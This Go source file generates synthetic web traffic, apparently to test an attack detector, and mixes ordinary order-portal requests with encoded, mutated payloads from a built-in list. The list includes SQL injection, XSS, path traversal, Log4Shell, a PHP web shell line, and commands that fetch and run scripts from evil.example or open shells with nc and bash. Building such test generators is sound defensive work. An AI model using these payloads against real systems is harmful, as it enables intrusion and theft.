package prove

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"html"
	"math/rand/v2"
	"net/url"
	"strings"
)

var words = strings.Fields(`quick report shows customer invoices region north paid shipping documents project gamma remain
 review attached summary confirm delivery address warehouse friday afternoon carrier pickup window noon thanks
 regards colour yellow number seven garden kitchen holiday meeting budget quarter annual forecast select order from
 union station where table update insert drop exec system file cat like and or not null script image on load`)

// plainWordCount is how many of words occur in no attack: those before select.
const plainWordCount = 40

const alnum = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"

func token(r *rand.Rand, n int) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = alnum[r.IntN(len(alnum))]
	}
	return string(b)
}

// sentence is text of plain words; of those that are no word of any attack.
func sentence(r *rand.Rand, n int) string {
	var b strings.Builder
	for b.Len() < n {
		if b.Len() > 0 {
			b.WriteByte(' ')
		}
		b.WriteString(words[r.IntN(plainWordCount)])
	}
	return b.String()[:n]
}

// attacks are payloads of many kinds, to be put anywhere.
var attacks = []string{
	"1' UNION SELECT username,password FROM users WHERE '1'='1' -- -", "<script>alert(document.cookie)</script>",
	"<img src=x onerror=alert(1)>", "../../../../etc/passwd", "; cat /etc/passwd", "$(curl http://evil.example/x|sh)",
	"() { :; }; echo vulnerable", "${jndi:ldap://x.example/a}", "{{7*7}}", "<?php system($_GET['c']); ?>",
	"%3Cscript%3Ealert(1)%3C/script%3E", "javascript:alert(1)", "1 OR 1=1", "admin'--", "' or ''='", "sleep(5)#",
	"file:///etc/shadow", "http://127.0.0.1/latest/meta-data/", "_$$ND_FUNC$$_function(){require('child_process')}()",
	"O:8:\"stdClass\":1:{s:1:\"a\";i:1;}", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==", "java.lang.Runtime.getRuntime().exec",
	"\r\nSet-Cookie: a=b", "*)(uid=*))(|(uid=*", "wget http://evil.example/a.sh", "powershell -enc AAAA", "nc -e /bin/sh",
	"UNION/**/SELECT", "\x00", "\\u003cscript\\u003e", "&#60;script&#62;", "eval(atob('YWxlcnQoMSk='))", "@@version",
	"while(true){}", "process.mainModule.require", "#{7*7}", "%{(#a=1)}", "<!--#exec cmd=\"ls\"-->", "<svg/onload=alert(1)>",
	"select * from information_schema.tables", "xp_cmdshell", "; ls -la", "| id", "`id`", "/bin/bash -i", "C:\\windows\\system32",
}

// disguise encodes a payload in some way.
func disguise(r *rand.Rand, s string) string {
	switch r.IntN(9) {
	case 0:
		return url.QueryEscape(s)
	case 1:
		return html.EscapeString(s)
	case 2:
		return base64.StdEncoding.EncodeToString([]byte(s))
	case 3:
		var b strings.Builder
		for _, c := range []byte(s) {
			if r.IntN(2) == 0 {
				fmt.Fprintf(&b, "\\x%02x", c)
			} else {
				b.WriteByte(c)
			}
		}
		return b.String()
	case 4:
		var b strings.Builder
		for _, c := range []byte(s) {
			if r.IntN(3) == 0 {
				fmt.Fprintf(&b, "%%u00%02x", c)
			} else {
				b.WriteByte(c)
			}
		}
		return b.String()
	case 5:
		return strings.ToUpper(s)
	case 6:
		return strings.ReplaceAll(s, " ", []string{"/**/", "+", "\t", "  ", "%20"}[r.IntN(5)])
	}
	return s
}

// mutate changes a payload a little, which may make it harmless.
func mutate(r *rand.Rand, s string) string {
	b := []byte(s)
	for range r.IntN(4) {
		if len(b) == 0 {
			break
		}
		switch i := r.IntN(len(b)); r.IntN(3) {
		case 0:
			b = append(b[:i:i], b[i+1:]...)
		case 1:
			b[i] = byte(r.IntN(256))
		case 2:
			b = append(b[:i:i], append([]byte(words[r.IntN(len(words))]), b[i:]...)...)
		}
	}
	return string(b)
}

func browser(r *rand.Rand) [][2]string {
	return [][2]string{
		{"Host", "portal.example.com"},
		{"User-Agent", fmt.Sprintf("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.0.0 Safari/537.36", 120+r.IntN(12))},
		{"Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"},
		{"Accept-Language", "en-GB,en;q=0.9,de;q=0.8"},
		{"Accept-Encoding", "gzip, deflate, br, zstd"},
		{"Connection", "keep-alive"},
		{"Referer", fmt.Sprintf("https://portal.example.com/app/orders/list?page=%d", r.IntN(1000))},
		{"Cookie", "gh_session=" + token(r, 1024) + "; theme=dark; lang=en-GB; _csrf=" + token(r, 32)},
		{"Sec-Fetch-Dest", "document"}, {"Sec-Fetch-Mode", "navigate"}, {"Sec-Fetch-Site", "same-origin"},
		{"Sec-Fetch-User", "?1"}, {"Upgrade-Insecure-Requests", "1"},
		{"Sec-Ch-Ua", `"Chromium";v="131", "Not_A Brand";v="24"`},
	}
}

func htmlReply(r *rand.Rand) string {
	return "<!doctype html><html><head><title>Orders</title></head><body>" + strings.Repeat("<p class=\"row\">"+sentence(r, 200)+"</p>\n", 36) + "</body></html>"
}

func (x *exchange) withBody(kind, body string) {
	x.method, x.body = "POST", body
	x.headers = append(x.headers, [2]string{"Content-Type", kind}, [2]string{"Content-Length", fmt.Sprint(len(body))})
}

// getExchange, jsonExchange and formExchange are ordinary requests.
func getExchange(r *rand.Rand) *exchange {
	x := &exchange{name: "get", method: "GET", headers: browser(r)}
	x.uri = fmt.Sprintf("/app/orders/list?page=%d&size=50&sort=created&filter=%s&q=%s", r.IntN(1000), url.QueryEscape(sentence(r, 14)), url.QueryEscape(sentence(r, 10+r.IntN(20))))
	x.answer(r, "")
	return x
}

func (x *exchange) answer(r *rand.Rand, reply string) {
	x.status, x.reply = 200, reply
	x.replyHeaders = [][2]string{{"Content-Type", "text/html; charset=utf-8"}, {"Server", "backend"},
		{"Date", "Fri, 20 Nov 2026 13:00:00 GMT"}, {"Cache-Control", "no-store"}, {"X-Request-Id", token(r, 8)},
		{"Set-Cookie", "theme=dark; Path=/; HttpOnly; Secure; SameSite=Lax"}}
}

func jsonBody(r *rand.Rand, size, keys int) string {
	var b strings.Builder
	b.WriteString(`{"order":{`)
	per := max(4, size/keys-14)
	for i := range keys {
		if i > 0 {
			b.WriteByte(',')
		}
		if i == keys/2 {
			b.WriteString(`"customer":{`)
		}
		switch i % 4 {
		case 0:
			fmt.Fprintf(&b, `"field_%d":"%s"`, i, sentence(r, per))
		case 1:
			fmt.Fprintf(&b, `"amount_%d":%d.%02d`, i, r.IntN(100000), r.IntN(100))
		case 2:
			fmt.Fprintf(&b, `"id_%d":"%s"`, i, token(r, 24))
		case 3:
			fmt.Fprintf(&b, `"note_%d":"%s"`, i, sentence(r, per*2))
		}
	}
	b.WriteString(`}}}`)
	return b.String()
}

func jsonExchange(r *rand.Rand, size, keys int) *exchange {
	x := &exchange{name: "json", uri: "/api/v1/orders", headers: browser(r)}
	x.headers[2][1] = "application/json, text/plain, */*"
	x.withBody("application/json", jsonBody(r, size, keys))
	x.answer(r, "")
	return x
}

func formExchange(r *rand.Rand) *exchange {
	v := url.Values{}
	for i := range 14 {
		switch i % 3 {
		case 0:
			v.Set(fmt.Sprintf("field%d", i), sentence(r, 70))
		case 1:
			v.Set(fmt.Sprintf("qty%d", i), fmt.Sprint(r.IntN(5000)))
		case 2:
			v.Set(fmt.Sprintf("ref%d", i), token(r, 90))
		}
	}
	x := &exchange{name: "form", uri: "/app/orders/save", headers: browser(r)}
	x.withBody("application/x-www-form-urlencoded", v.Encode())
	x.answer(r, "")
	return x
}

// anyValue is a value of any sort.
func anyValue(r *rand.Rand) string {
	switch r.IntN(8) {
	case 0:
		return disguise(r, mutate(r, attacks[r.IntN(len(attacks))]))
	case 1:
		return token(r, r.IntN(40))
	case 2:
		return fmt.Sprint(r.IntN(100000))
	case 3:
		return words[r.IntN(len(words))] + " " + words[r.IntN(len(words))] + string(rune(33+r.IntN(90))) + words[r.IntN(len(words))]
	}
	return sentence(r, 1+r.IntN(60))
}

// anyExchange is a request of any sort; most are harmless.
func anyExchange(r *rand.Rand) *exchange {
	x := &exchange{name: "any", method: []string{"GET", "GET", "HEAD", "POST", "OPTIONS", "PUT", "TRACE"}[r.IntN(7)], uri: "/app/", headers: browser(r)}
	value := func(n int) string { // with one odd value in n
		if r.IntN(n) == 0 {
			return anyValue(r)
		}
		return sentence(r, 1+r.IntN(30))
	}
	x.uri = "/" + []string{"", "app/orders", "img/a.png", "report.pdf", "x.bak", url.PathEscape(value(3))}[r.IntN(6)]
	if r.IntN(2) == 0 {
		var q []string
		for range r.IntN(5) {
			q = append(q, url.QueryEscape(words[r.IntN(plainWordCount)])+"="+url.QueryEscape(value(12)))
		}
		x.uri += "?" + strings.Join(q, "&")
	}
	for range r.IntN(2) {
		h := []string{"Referer", "User-Agent", "Accept", "Range", "Content-Type", "X-Note", "Cookie", "X-Forwarded-For", "Transfer-Encoding", "Accept-Charset"}[r.IntN(10)]
		x.headers = append(x.headers, [2]string{h, strings.NewReplacer("\r", "", "\n", "", "\x00", "").Replace(value(2))})
	}
	if r.IntN(12) == 0 { // without one of them
		i := r.IntN(len(x.headers))
		x.headers = append(x.headers[:i:i], x.headers[i+1:]...)
	}
	switch r.IntN(7) {
	case 0:
		m := map[string]any{}
		for range r.IntN(8) {
			m[words[r.IntN(len(words))]] = value(10)
		}
		b, _ := json.Marshal(m)
		x.withBody("application/json", string(b))
	case 1, 2:
		var q []string
		for range r.IntN(8) {
			q = append(q, url.QueryEscape(words[r.IntN(plainWordCount)])+"="+url.QueryEscape(value(12)))
		}
		x.withBody("application/x-www-form-urlencoded", strings.Join(q, "&"))
	case 3:
		x.withBody("application/xml", "<a b=\""+html.EscapeString(value(4))+"\">"+html.EscapeString(value(4))+"</a>")
	case 4:
		x.withBody("multipart/form-data; boundary=bnd", "--bnd\r\nContent-Disposition: form-data; name=\"a\"; filename=\""+strings.NewReplacer("\"", "", "\r", "", "\n", "").Replace(value(4))+"\"\r\nContent-Type: text/plain\r\n\r\n"+value(3)+"\r\n--bnd--\r\n")
	}
	x.answer(r, "")
	switch r.IntN(4) {
	case 0:
		x.reply = "<html>" + sentence(r, 300) + "</html>"
	case 1:
		x.reply = sentence(r, 100) + []string{"ORA-01756: quoted", "You have an error in your SQL syntax", "<title>r57 Shell</title>", "Index of /", "Fatal error: in /x.php on line 3", "javax.servlet", "Microsoft OLE DB Provider"}[r.IntN(7)]
	}
	if r.IntN(8) == 0 {
		x.status = []int{404, 500, 302}[r.IntN(3)]
	}
	return x
}
